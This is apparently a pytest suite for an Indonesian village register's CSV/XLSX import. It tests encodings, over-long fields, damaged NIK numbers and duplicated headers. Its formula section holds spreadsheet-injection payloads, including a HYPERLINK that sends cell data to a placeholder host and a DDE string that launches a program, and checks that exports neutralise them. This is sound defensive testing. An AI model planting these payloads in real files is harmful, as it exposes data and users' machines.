"""A hostile corpus for the register import (issue 16.8): values longer than their column,
UTF-16 with and without a byte-order mark, Latin-1, mixed line endings, formula-like text,
damaged numbers, rows of other regions, empty files and repeated headers.

Each file is small and made in the test. Every one ends in the stored value the file meant or a
clear Indonesian message (on the row, or for the whole file), never a server error, and a refused
row or file writes nothing of itself to the register.
"""

from __future__ import annotations

import csv
import io

import pytest

from portal.blueprints.register.validation import MAX_LENGTHS
from portal.demo import synthetic
from tests.factories import DESA_PASAR_IPUH, KEL_TANAH_GARAM
from tests.register.conftest import counts, csv_bytes, errors_by_row, household, person, text_of
from tests.register.test_export import export_csv, export_xlsx
from tests.register.test_validation import FILE_ROW, TARGET, expect_rejected

EMPTY = {"households": 0, "persons": 0, "events": 0}


@pytest.fixture
def rows(pasar_ipuh):
    rows, _ = synthetic.generate([pasar_ipuh], families_per_village=4, seed=7, accents=True)
    return rows


def family_of(rows, index: int) -> list[dict[str, str]]:
    return [row for row in rows if row["nomor_kk"] == rows[index]["nomor_kk"]]


def confirm_without_the_family(importer, record, rows, index: int = TARGET) -> None:
    """Confirm a preview with one refused row: the rest is stored, nothing of its family."""
    record = importer.confirm(record.id)
    assert record.status == "done", record.message
    for row in rows:
        stored = person(row["nomor_nik"])
        if row["nomor_kk"] == rows[index]["nomor_kk"]:
            assert stored is None, row
        else:
            assert stored is not None, row
    assert household(rows[index]["nomor_kk"]) is None


def refused_file(importer, data: bytes, expected: str, filename: str = "prelist.csv") -> str:
    """The whole file refused with `expected` on a page that answers 200; nothing written."""
    response = importer.upload(data, DESA_PASAR_IPUH, filename)
    assert response.status_code == 302, response.status_code
    import_id = int(response.headers["Location"].rsplit("/", 1)[1])
    page = importer.page(import_id)
    assert page.status_code == 200
    text = text_of(page)
    assert expected in text, importer.record(import_id).message
    assert "Register tidak berubah" in text
    assert importer.record(import_id).status == "failed"
    assert counts() == EMPTY
    return text


# --- Values longer than the register's column: refused with the row, never cut -------------


def too_long(column: str) -> str:
    limit = MAX_LENGTHS[column]
    if column in ("rt", "rw"):
        return "1" + "2" * limit  # digits: padded, never cut to three
    return "Á" + "x" * limit  # one over the limit, with a character that is not ASCII


def long_message(column: str) -> str:
    limit = MAX_LENGTHS[column]
    if column in ("rt", "rw"):
        return f"{column.upper()} paling banyak {limit} angka, misalnya 001 (berisi {limit + 1}"
    return f"Kolom {column} lebih dari {limit} karakter (berisi {limit + 1} karakter)"


def test_every_bounded_text_column_is_checked():
    assert MAX_LENGTHS == {
        "nama": 200,
        "tempat_lahir": 100,
        "nama_ibu_kandung": 200,
        "hubungan_keluarga": 40,
        "alamat": 300,
        "dusun": 100,
        "rt": 3,
        "rw": 3,
        "iddtks": 40,
    }


@pytest.mark.parametrize("column", list(MAX_LENGTHS))
def test_value_longer_than_its_column_is_refused_with_the_row(sekretaris, importer, rows, column):
    rows[TARGET][column] = too_long(column)
    record = expect_rejected(importer, rows, long_message(column))
    row_issues = [issue for issue in record.issues if issue[0] == FILE_ROW]
    assert [(issue[1], issue[3]) for issue in row_issues] == [(column, "error")]
    confirm_without_the_family(importer, record, rows)


@pytest.mark.parametrize("column", ["alamat", "nama_ibu_kandung", "tempat_lahir", "rt"])
def test_xlsx_value_longer_than_its_column_is_refused(
    sekretaris, importer, rows, make_file, column
):
    rows[TARGET][column] = too_long(column)
    record = importer.preview(make_file(rows, "xlsx"), DESA_PASAR_IPUH, "prelist.xlsx")
    errors = errors_by_row(record)
    assert list(errors) == [FILE_ROW]
    assert any(long_message(column) in message for message in errors[FILE_ROW]), errors
    assert counts() == EMPTY
    confirm_without_the_family(importer, record, rows)


def test_values_exactly_as_long_as_their_column_are_stored_whole(sekretaris, importer, rows):
    family = family_of(rows, 0)
    alamat = "Jl. " + "Panjang " * 36 + "\nRT 1"  # a line break typed in the cell is kept
    alamat = alamat + "y" * (MAX_LENGTHS["alamat"] - len(alamat))
    for row in family:
        row.update(alamat=alamat, dusun="D" * 100, iddtks="I" * 40, rt="0012", rw="7")
    head = family[0]
    head.update(
        nama="N" * 200,
        nama_ibu_kandung="Ibu " + "é" * 196,
        tempat_lahir="T" * 100,
        hubungan_keluarga="1",  # a code: stored as its name
    )
    family[-1]["hubungan_keluarga"] = "K" * 40  # unknown relations are stored as written

    record = importer.run(csv_bytes(rows), DESA_PASAR_IPUH)

    assert record.summary["rows_rejected"] == 0, record.issues
    found = household(head["nomor_kk"])
    assert (found.alamat, found.dusun, found.iddtks) == (alamat, "D" * 100, "I" * 40)
    assert "\n" in found.alamat and len(found.alamat) == 300
    assert (found.rt, found.rw) == ("012", "007")  # padded, never cut
    first = person(head["nomor_nik"])
    assert (first.name, first.mother_name, first.birth_place, first.relation) == (
        "N" * 200,
        "Ibu " + "é" * 196,
        "T" * 100,
        "KEPALA KELUARGA",
    )
    assert person(family[-1]["nomor_nik"]).relation == "K" * 40


def test_long_alamat_with_a_line_break_gets_only_the_length_message(sekretaris, importer, rows):
    rows[TARGET]["alamat"] = "Jl. Merdeka\n" + "x" * 300
    record = expect_rejected(importer, rows, "Kolom alamat lebih dari 300 karakter (berisi 312")
    assert len(errors_by_row(record)[FILE_ROW]) == 1  # the line break itself is allowed


def test_long_nama_with_a_control_character_gets_one_message(sekretaris, importer, rows):
    rows[TARGET]["nama"] = "BUDI\x0b" + "x" * 300
    record = expect_rejected(importer, rows, "Kolom nama berisi karakter kontrol")
    assert len(errors_by_row(record)[FILE_ROW]) == 1


# --- Encodings and line endings -------------------------------------------------------------

BOMS = {"utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff"}


@pytest.mark.parametrize("bom", [True, False], ids=["bom", "no-bom"])
@pytest.mark.parametrize("encoding", list(BOMS))
def test_utf16_is_read_with_or_without_its_bom(sekretaris, importer, rows, encoding, bom):
    data = csv_bytes(rows, encoding=encoding)
    if bom:
        data = BOMS[encoding] + data
    assert data[:2] not in BOMS.values() or bom
    record = importer.run(data, DESA_PASAR_IPUH)
    assert record.summary["format"] == "csv"
    assert record.summary["rows_rejected"] == 0, record.issues
    accented = [row for row in rows if not row["nama"].isascii()]
    assert accented
    for row in accented + rows[:1]:
        assert person(row["nomor_nik"]).name == row["nama"]
    # The first column (iddtks) is found: no stray byte-order mark in the header.
    assert household(rows[0]["nomor_kk"]).iddtks == rows[0]["iddtks"]


def test_damaged_utf16_without_bom_is_named(sekretaris, importer, rows):
    data = csv_bytes(rows, encoding="utf-16-le")[:-1]  # an odd number of bytes
    refused_file(importer, data, "Berkas CSV dalam UTF-16 tanpa penanda BOM dan isinya rusak")


def test_binary_with_nul_bytes_is_still_not_a_spreadsheet(sekretaris, importer):
    refused_file(importer, bytes(range(256)) * 8, "Berkas ini bukan spreadsheet", "data.csv")


def test_latin1_names_are_read(sekretaris, importer, rows):
    rows[0]["nama"] = "JOSÉ MÜLLER"
    rows[2]["nama"] = "NÚÑEZ ÇAĞLAR".replace("Ğ", "G")  # Latin-1 has no Ğ
    record = importer.run(csv_bytes(rows, delimiter=";", encoding="latin-1"), DESA_PASAR_IPUH)
    assert record.summary["rows_rejected"] == 0, record.issues
    assert person(rows[0]["nomor_nik"]).name == "JOSÉ MÜLLER"
    assert person(rows[2]["nomor_nik"]).name == "NÚÑEZ ÇAGLAR"


def csv_lines(rows) -> list[str]:
    """The header and each row as one CSV record, without its line ending."""
    records = []
    for values in [list(synthetic.COLUMNS), *([row[c] for c in synthetic.COLUMNS] for row in rows)]:
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\r\n").writerow(values)  # quotes a line break
        records.append(buffer.getvalue().removesuffix("\r\n"))
    return records


def test_mixed_line_endings(sekretaris, importer, rows):
    """CRLF, LF and a lone CR in one file (pasted together from several), and a quoted address
    with its own line break: every row read, the break kept."""
    for row in family_of(rows, 0):
        row["alamat"] = "Jl. Merdeka\r\nGang 2"
    endings = ["\r\n", "\n", "\r"]
    data = "".join(line + endings[n % 3] for n, line in enumerate(csv_lines(rows))).encode()
    record = importer.run(data, DESA_PASAR_IPUH)
    assert record.summary["rows"] == len(rows)
    assert record.summary["rows_rejected"] == 0, record.issues
    for row in rows:
        assert person(row["nomor_nik"]) is not None
    assert household(rows[0]["nomor_kk"]).alamat == "Jl. Merdeka\r\nGang 2"


def test_mixed_line_endings_name_the_right_row(sekretaris, importer, rows):
    rows[3]["nama"] = ""
    data = "".join(line + ("\r" if n % 2 else "\n") for n, line in enumerate(csv_lines(rows)))
    record = importer.preview(data.encode(), DESA_PASAR_IPUH)
    assert errors_by_row(record) == {5: ["Nama kosong."]}  # the header is line 1


# --- Formula-like text: stored as typed, exported neutralised ------------------------------

FORMULAS = {
    "nama": '=HYPERLINK("http://contoh.invalid/?q="&A1,"klik")',
    "nama_ibu_kandung": "+cmd|' /C calc'!A0",
    "tempat_lahir": "-2+3",
    "dusun": "@SUM(A1:A9)",
    "alamat": "=1+1",
}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_like_text_is_stored_as_text_and_exported_neutralised(
    sekretaris, importer, client, rows, make_file, fmt
):
    head = family_of(rows, 0)[0]
    for row in family_of(rows, 0):
        row.update(dusun=FORMULAS["dusun"], alamat=FORMULAS["alamat"])
    for column in ("nama", "nama_ibu_kandung", "tempat_lahir"):
        head[column] = FORMULAS[column]
    path = make_file(rows, fmt)  # XLSX: text cells, not formulas
    record = importer.run(path, DESA_PASAR_IPUH)
    assert record.summary["rows_rejected"] == 0, record.issues

    stored = person(head["nomor_nik"])
    assert (stored.name, stored.mother_name, stored.birth_place) == (
        FORMULAS["nama"],
        FORMULAS["nama_ibu_kandung"],
        FORMULAS["tempat_lahir"],
    )
    assert (stored.household.dusun, stored.household.alamat) == (
        FORMULAS["dusun"],
        FORMULAS["alamat"],
    )
    for exported in (export_csv(client), export_xlsx(client)):
        header, *body = exported
        (line,) = [r for r in body if r[header.index("nomor_nik")] == head["nomor_nik"]]
        for column, value in FORMULAS.items():
            assert line[header.index(column)] == "'" + value, column


# --- Damaged numbers ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("3.2e15", "NIK tertulis sebagai notasi ilmiah (3.2e15)"),
        ("3.2E15", "NIK tertulis sebagai notasi ilmiah (3.2E15)"),
        ("1706.0520.0685.0123", "NIK hanya boleh berisi angka."),
        ("１７０６０５２００６８５０１２３", "NIK hanya boleh berisi angka."),  # full-width digits
    ],
)
def test_damaged_nik_is_refused_with_its_reason(sekretaris, importer, rows, value, expected):
    rows[TARGET]["nomor_nik"] = value
    record = expect_rejected(importer, rows, expected)
    confirm_without_the_family(importer, record, rows)


@pytest.mark.parametrize("spaces", [" ", "\u00a0", "  "], ids=["space", "nbsp", "double"])
def test_nik_grouped_by_spaces_is_stored_as_its_16_digits(sekretaris, importer, rows, spaces):
    nik = rows[TARGET]["nomor_nik"]
    rows[TARGET]["nomor_nik"] = spaces.join((nik[:6], nik[6:12], nik[12:]))
    record = importer.run(csv_bytes(rows), DESA_PASAR_IPUH)
    assert record.summary["rows_rejected"] == 0, record.issues
    assert person(nik).name == rows[TARGET]["nama"]


# --- Rows of other regions ------------------------------------------------------------------


def test_row_of_another_province(sekretaris, importer, rows):
    rows[TARGET]["kode_wilayah"] = KEL_TANAH_GARAM
    expect_rejected(
        importer,
        rows,
        f"Baris ini milik wilayah {KEL_TANAH_GARAM}, bukan desa/kelurahan tujuan impor",
    )


def test_row_naming_an_unknown_village_without_a_code(sekretaris, importer, rows):
    columns = tuple(c for c in synthetic.COLUMNS if c != "kode_wilayah")
    rows[TARGET]["desa_kelurahan"] = "Desa Antah Berantah"
    before = counts()
    record = importer.preview(csv_bytes(rows, columns=columns), DESA_PASAR_IPUH)
    assert errors_by_row(record) == {
        FILE_ROW: ["Desa/kelurahan baris ini tidak dikenali; isi kolom kode_wilayah (10 digit)."]
    }
    assert counts() == before
    confirm_without_the_family(importer, record, rows)


def test_region_code_written_with_dots_is_the_same_village(sekretaris, importer, rows):
    for row in rows:
        row["kode_wilayah"] = "17.06.05.2006"
    record = importer.run(csv_bytes(rows), DESA_PASAR_IPUH)
    assert record.summary["rows_rejected"] == 0, record.issues
    assert household(rows[0]["nomor_kk"]).village_code == DESA_PASAR_IPUH


# --- Empty files and headers ----------------------------------------------------------------

HEADER = ",".join(synthetic.COLUMNS)


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (b"\xef\xbb\xbf", "Berkas kosong."),
        (b"\xff\xfe", "Berkas kosong."),
        (b"\xef\xbb\xbf\r\n\n\r", "Berkas kosong."),
        ((HEADER + "\r\n").encode("utf-16-le"), "Berkas hanya berisi baris judul, tanpa data."),
        ((HEADER + "\r\n" + "," * 21 + "\r\n").encode(), "Berkas hanya berisi baris judul"),
        (
            (HEADER + ",NIK\r\n").encode(),
            'Kolom nomor_nik muncul dua kali di baris judul (kolom ke-12 "nomor_nik" dan ke-23 '
            '"NIK").',
        ),
        (
            (HEADER.replace("kode_wilayah", "Kode Desa") + ",kode wilayah\r\n").encode(),
            "Kolom kode_wilayah muncul dua kali di baris judul",
        ),
    ],
    ids=["utf8-bom-only", "utf16-bom-only", "bom-and-breaks", "utf16-header-only",
         "header-and-empty-cells", "nik-twice", "region-twice"],
)  # fmt: skip
def test_empty_or_ambiguous_file_is_refused_whole(sekretaris, importer, data, expected):
    refused_file(importer, data, expected)


def test_duplicated_column_in_an_xlsx_header(sekretaris, importer, rows, make_file):
    columns = (*synthetic.COLUMNS, "nama")
    path = make_file(rows, "xlsx", columns=columns)
    refused_file(importer, path.read_bytes(), "Kolom nama muncul dua kali", "prelist.xlsx")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_header_repeated_inside_the_file(sekretaris, importer, rows, make_file, fmt):
    """Two exports pasted into one: the second header is a refused row, not three errors."""
    repeated = dict(zip(synthetic.COLUMNS, synthetic.COLUMNS, strict=True))
    middle = len(family_of(rows, 0))
    rows.insert(middle, repeated)
    record = importer.preview(make_file(rows, fmt), DESA_PASAR_IPUH)
    assert errors_by_row(record) == {
        middle + 2: [
            "Baris ini mengulang baris judul (mungkin beberapa berkas digabung). Hapus baris "
            "ini lalu impor ulang."
        ]
    }
    assert "Baris ini mengulang baris judul" in text_of(importer.page(record.id))
    assert counts() == EMPTY
    record = importer.confirm(record.id)
    assert record.status == "done"
    assert counts()["persons"] == len(rows) - 1
